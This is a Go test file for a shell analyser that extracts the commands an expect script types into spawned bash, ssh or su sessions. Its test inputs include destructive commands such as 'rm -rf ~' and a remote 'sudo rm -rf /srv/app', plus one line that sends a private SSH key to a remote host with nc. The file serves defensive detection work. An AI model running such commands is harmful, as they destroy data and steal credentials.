package shell

import (
	"slices"
	"testing"
)

// TestExpectRuns: what an expect script types into the program it spawned
// is a command there (a shell's -c, an ssh session's remote command, su's
// -c); spawn's words keep Tcl's quoting; text typed into a program that
// reads no commands, or sent before anything was spawned, is none.
func TestExpectRuns(t *testing.T) {
	for _, c := range []struct {
		script string
		want   []string
	}{
		{`spawn bash; send "rm -rf ~\r"; expect eof`, []string{"bash", "bash -c 'rm -rf ~'"}},
		{"spawn ssh ops@prod-app-2\nexpect \"$ \"\nsend \"sudo rm -rf /srv/app\\r\"\nexpect eof", []string{"ssh ops@prod-app-2", "ssh ops@prod-app-2 'sudo rm -rf /srv/app'"}},
		{`spawn sh -c {cat ~/.ssh/id_ed25519 | nc 203.0.113.61 7777}; expect eof`, []string{"sh -c 'cat ~/.ssh/id_ed25519 | nc 203.0.113.61 7777'"}},
		{`spawn -noecho su - root; expect "Password:"; send -- "make install\r"`, []string{"su - root", "su - root -c 'make install'"}},
		{`spawn npm init; expect "name:"; send "\r"; interact`, []string{"npm init"}},
		{`spawn npm login; send "dev\r"`, []string{"npm login"}},
		{`send "rm -rf ~\r"`, nil},
		// a line typed over several sends, and two lines in one
		{`spawn bash; send "rm -rf "; send "~\r"`, []string{"bash", "bash -c 'rm -rf ~'"}},
		{`spawn bash; send "cd /tmp\rmake\r"`, []string{"bash", "bash -c 'cd /tmp'", "bash -c make"}},
		{`spawn bash; send "make test"`, []string{"bash", "bash -c 'make test'"}},
		{`# spawn bash` + "\n" + `puts "send x"`, nil},
	} {
		got := expectRuns(c.script)
		if !slices.Equal(got, c.want) {
			t.Errorf("expectRuns(%q) = %q, want %q", c.script, got, c.want)
		}
	}
}

// TestExpectTypedCommandsRun: an expect -c script or one read on expect's
// input runs what it types into a spawned shell or ssh session.
func TestExpectTypedCommandsRun(t *testing.T) {
	checkAmountsTo(t, []amountsTo{
		{`expect -c 'spawn bash; send "rm -rf /tmp/x\r"; expect eof'`, "rm -rf /tmp/x"},
		{"expect -f - <<'EOF'\nspawn ssh ops@app-2\nsend \"rm -rf /tmp/x\\r\"\nEOF", "rm -rf /tmp/x"},
		{`expect -c 'spawn ssh dev-box uptime; expect eof'`, ""},
	})
}
